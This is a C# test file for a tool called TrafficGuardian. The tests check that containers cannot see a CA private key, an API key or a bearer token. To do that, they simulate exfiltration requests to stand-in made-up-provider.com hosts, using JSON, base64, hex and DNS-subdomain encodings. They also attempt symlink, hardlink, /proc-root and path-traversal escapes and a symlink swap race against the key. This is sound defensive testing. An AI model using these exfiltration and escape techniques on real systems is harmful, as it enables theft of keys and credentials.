using System.Text;
using System.Text.Json;

namespace TrafficGuardian.Cli.Tests.Boundary;

/// <summary>The CA's key and the secrets that passed: whatever a container can see holds no part of them.</summary>
[Collection(BoundaryWorlds.Name)]
public sealed class CustodyTests(BoundaryWorlds worlds)
{
    [Fact]
    public async Task No_artefact_that_a_container_sees_holds_a_part_of_the_key_or_of_a_secret()
    {
        var world = await worlds.GetAsync();
        var model = TestSecret.ModelKey();
        var token = $"aoc_{TestSecret.Characters(48)}";
        await world.Family.AskAsync("request", new[]
        {
            Sent("https://notes.made-up-provider.com/save", $$"""{"key":"{{model}}","and":"{{world.Known}}"}""", token),
            Sent("http://paste.made-up-provider.com/new?key=" + model, Convert.ToBase64String(Encoding.ASCII.GetBytes(model)), token),
            Sent("http://paste.made-up-provider.com/hex", Convert.ToHexString(Encoding.ASCII.GetBytes(model)) + $" {world.Known}", token),
            Sent($"http://{model[14..50]}.made-up-provider.com/", "a name that carries it", token),
        });
        await world.FindingsAsync();

        var artefacts = await ArtefactsAsync(world);

        (string, byte[])[] secrets = [("the CA's key", Leaks.Private(await File.ReadAllTextAsync(world.KeyFile))), ("the model's key", Encoding.ASCII.GetBytes(model[13..])),
            ("the known value", Encoding.ASCII.GetBytes(world.Known)), ("the agent's token", Encoding.ASCII.GetBytes(token))];
        Assert.True(artefacts.Count > 25, $"only {artefacts.Count} artefacts");
        Assert.All(artefacts, artefact => Assert.Empty(Leaks.In(artefact.Value, secrets)));
        Assert.All((string[])["ai_api_key", "known_value"], pattern => Assert.Contains(artefacts, artefact => Encoding.UTF8.GetString(artefact.Value).Contains(pattern, StringComparison.Ordinal)));
    }

    [Fact]
    public async Task The_key_is_read_by_no_path()
    {
        var world = await worlds.GetAsync();
        var key = world.KeyFile;
        string[] above = ["", "/old", "/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/proc/self/cwd", "/run/traffic-guardian/../../..", "/workspace/ipc/../../..", "/workspace/extra/snapshot/../../../..", "/proc/self/fd/0", "/proc/2/root"];
        await world.Family.AskAsync("attempts", above.Select((root, at) => new { act = "symlink", from = root + key, to = $"/workspace/ipc/link-{at}" }).Cast<object>()
            .Append(new { act = "symlink", from = "/proc/1/root", to = "/workspace/ipc/root" })
            .Append(new { act = "link", from = key, to = "/workspace/ipc/hard" }));

        var read = await world.Family.AskAsync("files", above.Select(root => root + key)
            .Concat(((string[])["ca.key", "../ca.key", "../ca/ca.key", "../../ca/ca.key", "../../config.json", "../work/status.json"]).Select(path => "/workspace/extra/snapshot/" + path))
            .Append("/workspace/ipc/root" + key).Append("/workspace/ipc").Append("/run").Append("/workspace/extra"));

        Assert.All(read.EnumerateObject(), file => Assert.True(
            file.Name.StartsWith("/workspace/extra/snapshot/", StringComparison.Ordinal) || file.Name == "/run/traffic-guardian/ca.pem" || file.Name.StartsWith("/workspace/ipc/clawsec_", StringComparison.Ordinal), file.Name));
        await world.Family.AskAsync("attempts", above.Select((_, at) => new { act = "remove", to = $"/workspace/ipc/link-{at}" }).Append(new { act = "remove", to = "/workspace/ipc/root" }));
    }

    [Fact]
    public async Task The_host_reads_the_key_to_nobody_who_links_to_it_in_his_folder()
    {
        var world = await worlds.GetAsync();
        await world.Work.McpAsync("--ipc", "/workspace/ipc");
        var ca = Path.GetDirectoryName(world.KeyFile)!;
        var tried = await world.Work.AskAsync("attempts", new object[]
        {
            new { act = "symlink", from = world.KeyFile, to = "/workspace/ipc/clawsec_traffic/key.json" },
            new { act = "symlink", from = world.Home.Guardian + "/config.json", to = "/workspace/ipc/clawsec_traffic/config.json" },
            new { act = "symlink", from = "/proc/self/environ", to = "/workspace/ipc/clawsec_traffic/environ.json" },
            new { act = "rename", from = "/workspace/ipc/clawsec_results", to = "/workspace/ipc/aside" },
            new { act = "symlink", from = ca, to = "/workspace/ipc/clawsec_results" },
            new { act = "rename", from = "/workspace/ipc/clawsec_traffic", to = "/workspace/ipc/clawsec_traffic.old" },
            new { act = "symlink", from = ca, to = "/workspace/ipc/clawsec_traffic" },
        });
        Assert.All(tried.EnumerateArray(), code => Assert.Equal("done", code.GetString()));
        var before = Directory.GetFiles(ca).Order().ToList();
        do
        {
            // Takes the time of several looks.
            await world.Work.AskAsync("env", 0);
        }
        while ((await world.Control.StatusAsync()).Ipc!.Faults.Values.Sum() == 0);

        Assert.Equal(before, Directory.GetFiles(ca).Order());
        await world.Work.AskAsync("attempts", new object[]
        {
            new { act = "remove", to = "/workspace/ipc/clawsec_results" },
            new { act = "remove", to = "/workspace/ipc/clawsec_traffic" },
            new { act = "rename", from = "/workspace/ipc/clawsec_traffic.old", to = "/workspace/ipc/clawsec_traffic" },
        });
        var secret = Leaks.Private(await File.ReadAllTextAsync(world.KeyFile));
        var (said, _) = await world.Work.McpAsync("--ipc", "/workspace/ipc");
        Assert.Empty(Leaks.In(Encoding.UTF8.GetBytes(said), [("the CA's key", secret)]));
        Assert.All(await SeenAsync("work", world.Work), artefact => Assert.Empty(Leaks.In(artefact.Value, [("the CA's key", secret)])));
    }

    [Fact]
    public void A_leak_would_be_seen()
    {
        using var authority = System.Security.Cryptography.ECDsa.Create(System.Security.Cryptography.ECCurve.NamedCurves.nistP256);
        var pem = authority.ExportPkcs8PrivateKeyPem();
        var der = authority.ExportPkcs8PrivateKey();
        (string, byte[])[] secrets = [("key", Leaks.Private(pem))];
        var hex = Convert.ToHexString(der);
        byte[][] leaks =
        [
            Encoding.ASCII.GetBytes(pem), der, Encoding.ASCII.GetBytes(authority.ExportECPrivateKeyPem()), Encoding.ASCII.GetBytes(hex), Encoding.ASCII.GetBytes(string.Join(':', hex.Chunk(2).Select(pair => new string(pair)))),
            Encoding.ASCII.GetBytes(Convert.ToBase64String(der)), Encoding.ASCII.GetBytes(JsonSerializer.Serialize(pem)), Encoding.ASCII.GetBytes(Convert.ToBase64String(Encoding.ASCII.GetBytes("x" + Convert.ToBase64String(secrets[0].Item2)))),
        ];
        Assert.All(leaks[..^1], leak => Assert.NotEmpty(Leaks.In(leak, secrets)));
        Assert.Empty(Leaks.In(Encoding.ASCII.GetBytes(new System.Security.Cryptography.X509Certificates.CertificateRequest("CN=x", authority, System.Security.Cryptography.HashAlgorithmName.SHA256)
            .CreateSelfSigned(DateTimeOffset.UnixEpoch, DateTimeOffset.UnixEpoch.AddDays(1)).ExportCertificatePem()), secrets));
    }

    private static object Sent(string url, string body, string token) => new { url, body, headers = new Dictionary<string, string>(StringComparer.Ordinal) { ["authorization"] = $"Bearer {token}" } };

    /// <summary>By name, everything that a container reads, or that is printed to be given to one or shown with it.</summary>
    private static async Task<Dictionary<string, byte[]>> ArtefactsAsync(BoundaryWorld world)
    {
        var artefacts = new Dictionary<string, byte[]>(StringComparer.Ordinal);
        foreach (var (name, container) in new[] { ("family", world.Family), ("work", world.Work) })
        {
            foreach (var source in new[] { ("--ipc", "/workspace/ipc"), ("--snapshot", "/workspace/extra/snapshot") })
            {
                artefacts[$"{name} mcp {source.Item1}"] = Encoding.UTF8.GetBytes((await container.McpAsync(source.Item1, source.Item2)).Said);
            }

            foreach (var (path, content) in await SeenAsync(name, container))
            {
                artefacts[path] = content;
            }
        }

        string[][] verbs =
        [
            .. ((string[])["sh", "docker", "compose", "json"]).Select(format => (string[])["env", "--format", format]),
            ["setup", "--bridge", "bridge"], ["setup", "--service", "systemd"], ["ca", "show"], ["status", "--json"], ["threats"], ["threats", "--json"], ["check-config"],
        ];
        await Task.WhenAll(verbs.Select(verb => world.HostAsync(verb)));

        foreach (var file in (string[])[world.Home.Findings, Path.Combine(world.Home.Guardian, "diagnostics.log"), Path.Combine(world.Home.Guardian, "state.json"), world.Exported,
            .. Directory.GetFiles(Path.Combine(world.Home.Guardian, "snapshot"))])
        {
            artefacts[file] = await File.ReadAllBytesAsync(file);
        }

        foreach (var (what, text) in world.Printed)
        {
            artefacts[what] = Encoding.UTF8.GetBytes(text);
        }

        return artefacts;
    }

    /// <summary>Every file inside, results of questions that are put there as files among them, and the processes' own.</summary>
    private static async Task<Dictionary<string, byte[]>> SeenAsync(string name, Container container)
    {
        var files = await container.AskAsync("files", (string[])["/run", "/workspace", "/bin/none", "/proc/1/environ", "/proc/self/environ", "/proc/self/cmdline", "/proc/self/mountinfo", "/proc/net/tcp", "/etc", "/dev/shm"]);
        return files.EnumerateObject().ToDictionary(file => $"{name} {file.Name}", file => file.Value.GetBytesFromBase64(), StringComparer.Ordinal);
    }
}
